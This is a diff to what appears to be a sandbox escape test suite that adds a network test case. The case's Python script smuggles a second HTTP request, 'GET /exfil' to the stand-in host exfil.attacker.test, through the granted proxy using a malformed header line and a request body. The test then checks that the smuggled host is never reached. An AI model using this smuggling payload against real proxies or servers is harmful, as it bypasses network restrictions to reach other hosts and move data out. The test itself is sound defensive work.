@@ -329,4 +329,32 @@ detail += " http: " + answer.decode(errors="replace")[:60]`),
   },
 });
 
-Deno.test(escapeSuite("network", { atLeast: { sandbox: 19, noSandbox: 5 } }));
+attack({
+  name:
+    "reach another site at a granted host's address by a plain request whose body is a second one",
+  language: "python",
+  needs: { network: [`localhost:${FRONT_PORT}`] },
+  allow: { privateNetwork: [`localhost:${FRONT_PORT}`] },
+  // A header line a server does not take for a field ends its head there; the body, sent as
+  // declared, was then read as a second request, for another site (Python's http.server).
+  script: py(`import socket
+proxy = os.environ["http_proxy"].split("//", 1)[1].rstrip("/")
+host, port = proxy.rsplit(":", 1)
+second = b"GET /exfil HTTP/1.1\\r\\nHost: exfil.attacker.test\\r\\n\\r\\n"
+s = socket.create_connection((host, int(port)), timeout=5)
+s.sendall(b"POST http://localhost:${FRONT_PORT}/ HTTP/1.1\\r\\nFoo Bar: x\\r\\n" +
+          b"Content-Length: " + str(len(second)).encode() + b"\\r\\n\\r\\n" + second +
+          b"GET http://localhost:${FRONT_PORT}/ HTTP/1.1\\r\\nHost: exfil.attacker.test\\r\\n\\r\\n")
+# The first request is the granted one: the front end's answer says nothing; what it was asked
+# for does (hostUnchanged).
+detail = s.recv(200).decode(errors="replace")[:60]`),
+  hostUnchanged() {
+    assert.ok(
+      !frontSeen.some((bytes) => bytes.includes("exfil.attacker.test")),
+      `the front end was asked for another site: ${JSON.stringify(frontSeen)}`,
+    );
+    return Promise.resolve();
+  },
+});
+
+Deno.test(escapeSuite("network", { atLeast: { sandbox: 20, noSandbox: 5 } }));
